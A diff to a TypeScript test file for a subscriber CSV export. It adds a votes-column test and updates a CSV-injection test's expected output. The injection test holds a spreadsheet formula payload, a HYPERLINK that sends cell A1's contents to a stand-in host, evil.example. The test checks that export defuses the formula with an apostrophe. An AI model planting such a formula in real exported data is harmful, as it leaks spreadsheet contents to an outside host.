@@ -29,12 +29,20 @@ function roundTrip(s: Subscriber) {
   return { record, row: checkRow(record ?? {}, 2) };
 }
 
+describe('subscribers export: votes', () => {
+  it('ends each line with the reader’s votes, newest first, that import leaves alone', () => {
+    const line = exportLine(base, 'up:2511.00001 down:2511.00002');
+    expect(line.split(',').at(-1)).toBe('up:2511.00001 down:2511.00002');
+    expect(roundTrip(base).row).toMatchObject({ email: 'ada@example.com' });
+  });
+});
+
 describe('subscribers export: CSV injection', () => {
   it('writes a value that would start a spreadsheet formula with an apostrophe, and import takes it off', () => {
     const evil = '=HYPERLINK("https://evil.example/?"&A1,"Click")';
     const line = exportLine({ ...base, name: evil });
     expect(line).toBe(
-      `ada@example.com,"'=HYPERLINK(""https://evil.example/?""&A1,""Click"")",,active,,2026-11-29T10:00:00.000Z`,
+      `ada@example.com,"'=HYPERLINK(""https://evil.example/?""&A1,""Click"")",,active,,2026-11-29T10:00:00.000Z,`,
     );
     const { record, row } = roundTrip({ ...base, name: evil });
     expect(record?.name).toBe(`'${evil}`);
